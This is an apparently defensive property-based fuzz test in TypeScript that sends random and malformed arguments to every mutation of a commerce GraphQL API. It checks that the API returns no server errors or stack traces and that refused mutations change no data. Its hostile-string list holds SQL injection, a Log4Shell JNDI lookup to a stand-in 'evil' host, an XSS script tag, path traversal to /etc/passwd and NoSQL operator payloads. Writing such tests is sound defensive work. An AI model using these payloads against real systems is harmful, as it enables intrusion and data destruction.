import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import {
  buildSchema, getNamedType, GraphQLField, GraphQLInputType, isEnumType, isInputObjectType, isListType, isNonNullType, isScalarType,
} from 'graphql';
import {
  createCampaign, createSellableVariants, createStorefrontKey, createStoreWithStaff, posSale, signUpCustomer, stockUp, TestApp, tillLogin,
} from '@omnitill/testing';

/**
 * Hostile input against every mutation of the committed schema: random, malformed and abusive
 * arguments as an admin and as a cashier on a till. Whatever is sent: never a 5xx, never an internal
 * error or a stack trace, and a refused mutation leaves every table as it was.
 */

const RUNS_PER_MUTATION = 15;
/** Written on purpose when a request is refused (brute-force counters), so they may change on refusal. */
const ATTEMPT_TABLES = ['login_attempt', 'customer_sign_in_attempt', 'coupon_guess'];
/** Not a client's to call, or would lock the suite itself out (none today; kept explicit). */
const SKIPPED_MUTATIONS: readonly string[] = [];

const HOSTILE_STRINGS = [
  "' OR '1'='1", "'; DROP TABLE \"order\"; --", "1; SELECT pg_sleep(5)", '\\', '%_%', '%', '${jndi:ldap://evil/x}', '<script>alert(1)</script>',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ✓ 😀 ﷽', '\u202Eevil', '\u0000', 'NaN', '-0', ' ', '../../etc/passwd', '{"$gt": ""}', 'x'.repeat(20_000), '',
];
const HOSTILE_IDS = ['not-a-uuid', '00000000-0000-0000-0000-000000000000', "1' OR '1'='1", '', 'ffffffff-ffff-ffff-ffff-ffffffffffff'];
const HOSTILE_INTS = [0, -1, 1, -2_147_483_648, 2_147_483_647, 1_000_000, -1_000_000];
const WRONG_TYPES: unknown[] = [{}, [], 'seven', 7.5, true, { $ne: null }, ['a', 1]];

const schema = buildSchema(readFileSync(join(__dirname, '..', 'apps', 'api', 'schema.gql'), 'utf8'));
const mutationFields = Object.values(schema.getMutationType()?.getFields() ?? {}).filter((field) => !SKIPPED_MUTATIONS.includes(field.name));

/**
 * A value of `type`, often hostile. `malformed` values are sometimes of a wrong type altogether or
 * null where null is not allowed (the GraphQL layer refuses those); well-typed ones reach the resolvers.
 */
function valueOf(type: GraphQLInputType, knownIds: readonly string[], malformed: boolean, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) {
    const value = valueOf(type.ofType, knownIds, malformed, depth);
    return malformed ? fc.oneof({ arbitrary: value, weight: 9 }, { arbitrary: fc.constant(null), weight: 1 }) : value;
  }
  const wrongOr = (right: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
    malformed ? fc.oneof({ arbitrary: right, weight: 4 }, { arbitrary: fc.constantFrom(...WRONG_TYPES), weight: 1 }) : right;
  if (isListType(type)) {
    const item = valueOf(type.ofType, knownIds, malformed, depth + 1);
    return wrongOr(fc.oneof(
      { arbitrary: fc.array(item, { maxLength: depth > 1 ? 1 : 3 }), weight: 9 },
      { arbitrary: item.chain((one) => fc.constant(Array.from({ length: 150 }, () => one))), weight: 1 },
    ));
  }
  const named = getNamedType(type);
  let right: fc.Arbitrary<unknown>;
  if (isEnumType(named)) {
    right = fc.oneof({ arbitrary: fc.constantFrom(...named.getValues().map((value) => value.name)), weight: 9 }, { arbitrary: fc.constant('NOT_A_VALUE'), weight: 1 });
  } else if (isInputObjectType(named)) {
    if (depth > 3) {
      return fc.constant(null);
    }
    const fields = Object.values(named.getFields());
    right = fc.record(
      Object.fromEntries(fields.map((field) => [
        field.name,
        isNonNullType(field.type)
          ? valueOf(field.type, knownIds, malformed, depth + 1)
          : fc.option(valueOf(field.type, knownIds, malformed, depth + 1), { nil: undefined }),
      ])),
      { requiredKeys: [] },
    ).map((record) => Object.fromEntries(Object.entries(record).filter(([, value]) => value !== undefined)));
  } else if (isScalarType(named)) {
    right = scalarOf(named.name, knownIds);
  } else {
    throw new Error(`unexpected input type ${String(named)}`);
  }
  return wrongOr(right);
}

function scalarOf(name: string, knownIds: readonly string[]): fc.Arbitrary<unknown> {
  switch (name) {
    case 'String':
      return fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: 'grapheme', maxLength: 12 }));
    case 'ID':
      return fc.oneof(fc.uuid(), fc.constantFrom(...knownIds), fc.constantFrom(...HOSTILE_IDS));
    case 'Int':
      return fc.oneof(fc.integer({ min: -3, max: 5 }), fc.constantFrom(...HOSTILE_INTS), fc.integer());
    case 'SafeInt':
      return fc.oneof(fc.integer({ min: -3, max: 5 }), fc.constantFrom(...HOSTILE_INTS, Number.MAX_SAFE_INTEGER, -Number.MAX_SAFE_INTEGER), fc.integer());
    case 'Float':
      return fc.oneof(fc.double(), fc.constantFrom(0, -1, 1e308));
    case 'Boolean':
      return fc.boolean();
    case 'DateTime':
      return fc.oneof(
        fc.date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2200-01-01T00:00:00Z'), noInvalidDate: true }).map((date) => date.toISOString()),
        fc.constantFrom('not-a-date', '2026-02-30T00:00:00Z', '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z', ''),
      );
    default:
      return fc.constantFrom(...HOSTILE_STRINGS);
  }
}

/** `mutation($a: T!) { m(a: $a) { __typename } }` for any mutation. */
function documentOf(field: GraphQLField<unknown, unknown>): string {
  const variables = field.args.map((arg) => `$${arg.name}: ${String(arg.type)}`).join(', ');
  const args = field.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ');
  const selection = isScalarType(getNamedType(field.type)) || isEnumType(getNamedType(field.type)) ? '' : ' { __typename }';
  return `mutation${variables ? `(${variables})` : ''} { ${field.name}${args ? `(${args})` : ''}${selection} }`;
}

describe('Hostile input against every mutation', () => {
  let sut: TestApp;
  const tokens: Record<'admin' | 'cashier', string> = { admin: '', cashier: '' };
  let knownIds: string[] = [];
  let countsSql = '';

  const footprint = async (): Promise<Record<string, string>> => (await sut.query<Record<string, string>>(countsSql))[0];

  beforeAll(async () => {
    const saved = { ...process.env };
    process.env.ORDER_EXPIRY_INTERVAL_MS = '0';
    process.env.RESERVATION_SWEEP_INTERVAL_MS = '0';
    sut = await TestApp.start({ env: { EVENT_RELAY_ENABLED: 'false' } });
    process.env = saved;
    tokens.admin = await sut.bootstrapAdmin();
    const store = await createStoreWithStaff(sut, tokens.admin);
    tokens.cashier = await tillLogin(sut, store);
    const apiKey = await createStorefrontKey(sut, tokens.admin);
    const [shoe] = await createSellableVariants(sut, tokens.admin, [5999]);
    await stockUp(sut, tokens.admin, store.id, [shoe], 50);
    const sale = await posSale(sut, store, [{ sku: shoe.sku, quantity: 1 }], [{ method: 'CASH', amount: 5999 }]);
    const customer = await signUpCustomer(sut, apiKey);
    const campaign = await createCampaign(sut, tokens.admin);
    // Ids that exist, so the fuzzer reaches past "not found" (never the admin's own id or the till's terminal).
    knownIds = [store.id, shoe.id, sale.order.id, sale.order.lines[0].id, customer.id, campaign.id, store.cashier.id];
    const tables = (await sut.query<{ table_name: string }>(
      "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name",
    )).map((row) => row.table_name).filter((table) => !ATTEMPT_TABLES.includes(table) && !table.startsWith('migrations') && table !== 'typeorm_metadata');
    countsSql = `SELECT ${tables.map((table) => `(SELECT count(*) FROM "${table}") AS "${table}"`).join(', ')}`;
  });

  afterAll(async () => {
    await sut.close();
  });

  it('covers every mutation of the schema', () => {
    expect(mutationFields.length).toBeGreaterThan(50);
  });

  it.each(mutationFields.map((field) => [field.name, field] as const))('%s: no internal error, no stack trace, nothing changed when refused', async (name, field) => {
    const document = documentOf(field);
    const argsOf = (malformed: boolean) => fc.record(Object.fromEntries(field.args.map((arg) => [arg.name, valueOf(arg.type, knownIds, malformed)])));
    const args = fc.oneof({ arbitrary: argsOf(false), weight: 3 }, { arbitrary: argsOf(true), weight: 1 });
    // Counted again only after a change was accepted: a refused one must leave these exact numbers.
    let before = await footprint();
    await fc.assert(
      fc.asyncProperty(fc.constantFrom<'admin' | 'cashier'>('admin', 'cashier'), args, async (role, variables) => {
        const response = await sut.http()
          .post('/graphql')
          .set('content-type', 'application/json')
          .set('authorization', `Bearer ${tokens[role]}`)
          .send({ query: document, variables });
        const text = response.text;
        const body = (response.body ?? {}) as { data?: Record<string, { __typename?: string } | null> | null; errors?: { extensions?: { code?: string } }[] };
        const problem = response.status >= 500
          ? `HTTP ${response.status}`
          : body.errors?.some((error) => error.extensions?.code === 'INTERNAL_SERVER_ERROR' || error.extensions?.code === undefined)
            ? 'internal error'
            : /\n\s+at .+:\d+:\d+|QueryFailedError|node_modules/.test(text) ? 'stack trace' : null;
        expect(problem === null ? null : `${name} as ${role}: ${problem}: ${text.slice(0, 400)}`).toBeNull();
        const result = body.data?.[name];
        const refused = (body.errors?.length ?? 0) > 0 || (typeof result === 'object' && result !== null && /Error$/.test(result.__typename ?? ''));
        if (response.status === 400) {
          // Refused by GraphQL validation before any resolver ran: nothing could have been written.
          expect(refused).toBe(true);
          return;
        }
        const after = await footprint();
        if (refused) {
          expect(after).toEqual(before);
        }
        before = after;
      }),
      { numRuns: RUNS_PER_MUTATION, endOnFailure: true },
    );
  });
});
